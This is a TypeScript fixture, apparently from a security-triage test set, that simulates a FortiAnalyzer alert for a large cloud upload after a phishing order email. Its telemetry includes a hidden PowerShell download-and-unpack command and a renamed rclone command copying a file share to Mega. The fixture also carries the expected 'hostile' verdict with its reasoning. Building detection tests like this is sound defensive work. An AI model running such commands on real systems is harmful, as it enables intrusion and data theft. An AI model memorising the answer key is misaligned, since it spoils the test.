// FortiAnalyzer sees a large upload to a cloud storage; the buyer had opened an order that came by mail an hour before.
import { alert, by, connected, hashes, hostile, ran, situation, wrote } from '../../shorthand.ts'

export const fortianalyzerUploadAfterAnOrderMail = situation(
  'fortianalyzer-upload-after-an-order-mail',
  'chains',
  'FortiAnalyzer: Data leak: large upload to cloud storage',
  (setting) => {
    const grace = setting.person('grace.mbeki')
    const laptop = setting.laptopOf('grace.mbeki')
    const at = setting.ago({ hours: 1, minutes: 22 })
    const mailed = at - 96 * 60_000
    const clicked = mailed + 19 * 60_000
    const minute = 60_000
    const domain = 'orders-brightline-supply.com'
    const url = `https://docs.${domain}/po/77813`
    const store = '185.206.24.31'
    const site = 'gfs270n104.userstorage.mega.co.nz'
    const script = setting.file('PO_77813_signed.js')
    const rclone = setting.file('rclone.exe')
    const message = setting.seeded.guid('order mail')
    const downloads = `C:\\Users\\${grace.account}\\Downloads`
    const hidden = `C:\\Users\\${grace.account}\\AppData\\Local\\Temp\\pk7`
    const line = [
      `date=${setting.iso(at).slice(0, 10)} time=${setting.iso(at).slice(11, 19)} eventtime=${at}000000 tz="+0000"`,
      'logid="0000000020" type="traffic" subtype="forward" level="notice" vd="root"',
      `srcip=${laptop.ip} srcport=58114 srcintf="lan-boston" srcintfrole="lan" srcname="${laptop.host}" srcmac="${laptop.mac}"`,
      `user="${grace.account.toUpperCase()}" group="Boston staff" authserver="FSSO-HAVSKOG"`,
      `dstip=${store} dstport=443 dstintf="wan1" dstintfrole="wan" dstcountry="Luxembourg" hostname="${site}"`,
      `sessionid=${setting.seeded.number('forti session', 10_000_000, 99_999_999)} proto=6 action="close" policyid=14 policytype="policy"`,
      'poluuid="6b1d7f0c-2a91-51ee-9c6a-8c2fb0fa91ce" policyname="Boston staff to internet" service="HTTPS" trandisp="snat"',
      `transip=${grace.office.externalIp} appid=16517 app="Mega_File.Upload" appcat="Storage.Backup" apprisk="medium" applist="default"`,
      'duration=2184 sentbyte=3918442107 rcvdbyte=20481166 sentpkt=2811204 rcvdpkt=214810 utmaction="allow" countapp=1',
      'crscore=5 craction=131072 crlevel="low" devid="FG100FTK21004417" devname="fgt-bos-lan"',
    ].join(' ')
    return {
      alerts: [
        alert(setting, at + 3 * minute, 'fortianalyzer', 'Data leak: large upload to cloud storage', {
          adom: 'Havskog',
          alertid: `${setting.seconds(at)}1000041`,
          alerttime: setting.seconds(at + 2 * minute),
          alerttimestr: setting.iso(at + 2 * minute),
          eventtype: 'app-ctrl',
          severity: 'medium',
          triggername: 'Data leak: large upload to cloud storage',
          basichandler: 'Default-Risky-App-Detection-By-Threat (copy)',
          subject: `Mega_File.Upload from ${laptop.ip} sent 3.65 GB`,
          extrainfo: `Source: ${laptop.host} / ${grace.account}, App: Mega_File.Upload, Sent: 3.65 GB in 36 min`,
          epid: 1042,
          epname: laptop.host,
          epip: laptop.ip,
          euid: 1188,
          euname: grace.account,
          devid: 'FG100FTK21004417',
          devname: 'fgt-bos-lan',
          devtype: 'FortiGate',
          vdom: 'root',
          groupby1: `srcip:${laptop.ip}`,
          groupby2: 'app:Mega_File.Upload',
          filterid: '1000041',
          filterexpr: 'sentbyte > 1073741824 and appcat == "Storage.Backup"',
          ackflag: 'no',
          readflag: 'no',
          firstlogtime: setting.seconds(at - 36 * minute),
          lastlogtime: setting.seconds(at),
          logcount: 1,
          logtype: 'traffic',
          tag: 'DLP,Boston',
          assignto: '',
          incident: { incid: '', autocreate: 'disable' },
          notification: { profile: 'soc-webhook', mail: 'it-larm@havskoginstruments.com', from: 'faz-got-01' },
          faz: {
            serial: 'FAZ-VMTM22008812',
            version: 'v7.4.5-build2553',
            url: 'https://faz-got-01.havskoginstruments.com/p/app/#!/fortiview/events',
          },
          rawlog: line,
        }),
      ],
      facts: {
        intelligence: [
          setting.risk('domain', domain, 86, [
            ['Recent Phishing Lure: Purchase Order', 3, 'Delivers script files in the name of a supplier.'],
          ]),
          setting.risk('url', url, 90, [['Recently Active Malware Distribution', 4, 'Hands out a JavaScript loader.']]),
        ],
        telemetry: [
          {
            table: 'EmailEvents',
            at: mailed,
            columns: {
              NetworkMessageId: message,
              SenderMailFromAddress: `sales@${domain}`,
              SenderFromAddress: `sales@${domain}`,
              SenderFromDomain: domain,
              SenderIPv4: '91.204.46.77',
              RecipientEmailAddress: grace.email,
              Subject: 'RE: PO 77813 - signed copy and new delivery date',
              EmailDirection: 'Inbound',
              DeliveryAction: 'Delivered',
              DeliveryLocation: 'Inbox/folder',
              AuthenticationDetails: '{"SPF":"pass","DKIM":"pass","DMARC":"pass"}',
              UrlCount: 1,
              AttachmentCount: 0,
            },
          },
          {
            table: 'EmailUrlInfo',
            at: mailed,
            columns: { NetworkMessageId: message, Url: url, UrlDomain: `docs.${domain}`, UrlLocation: 'Body' },
          },
          {
            table: 'UrlClickEvents',
            at: clicked,
            columns: {
              Url: url,
              ActionType: 'ClickAllowed',
              AccountUpn: grace.email,
              Workload: 'Email',
              NetworkMessageId: message,
              IPAddress: grace.office.externalIp,
              IsClickedThrough: false,
            },
          },
          wrote(laptop, clicked + 40_000, 'PO_77813_signed.js', downloads, script, {
            FileOriginUrl: url,
            InitiatingProcessFileName: 'msedge.exe',
            InitiatingProcessAccountName: grace.account,
          }),
          ran(laptop, clicked + 2 * minute, 'wscript.exe', `wscript.exe "${downloads}\\PO_77813_signed.js"`, {
            ...by(grace),
            FolderPath: 'C:\\Windows\\System32',
            InitiatingProcessFileName: 'explorer.exe',
          }),
          ran(
            laptop,
            clicked + 3 * minute,
            'powershell.exe',
            `powershell.exe -w hidden -c "iwr https://docs.${domain}/u/p.zip -OutFile $env:TEMP\\p.zip; Expand-Archive $env:TEMP\\p.zip $env:TEMP\\pk7"`,
            {
              ...by(grace),
              ...hashes(setting.file('powershell.exe')),
              FolderPath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0',
              InitiatingProcessFileName: 'wscript.exe',
              InitiatingProcessCommandLine: `wscript.exe "${downloads}\\PO_77813_signed.js"`,
            },
          ),
          wrote(laptop, clicked + 4 * minute, 'svhelper.exe', hidden, rclone, {
            InitiatingProcessFileName: 'powershell.exe',
            InitiatingProcessAccountName: grace.account,
          }),
          ran(
            laptop,
            at - 37 * minute,
            'svhelper.exe',
            `svhelper.exe copy "\\\\srv-files-01\\Procurement" m:bos --max-age 2y --transfers 12 --config ${hidden}\\c.conf`,
            {
              ...by(grace),
              ...hashes(rclone),
              FolderPath: hidden,
              InitiatingProcessFileName: 'wscript.exe',
            },
          ),
          connected(laptop, at - 36 * minute, store, {
            RemoteUrl: site,
            InitiatingProcessFileName: 'svhelper.exe',
            InitiatingProcessSHA256: rclone.sha256,
            InitiatingProcessAccountName: grace.account,
          }),
          ran(laptop, at - 20 * minute, 'outlook.exe', 'outlook.exe', {
            ...by(grace),
            InitiatingProcessFileName: 'explorer.exe',
          }),
        ],
      },
      expected: hostile(laptop.host),
      because:
        'The buyer clicked a link of a known order lure, the script she got fetched a renamed rclone, and that copied the procurement share to the storage at the very time and volume of the alert. No step of it is hers but the click.',
    }
  },
)
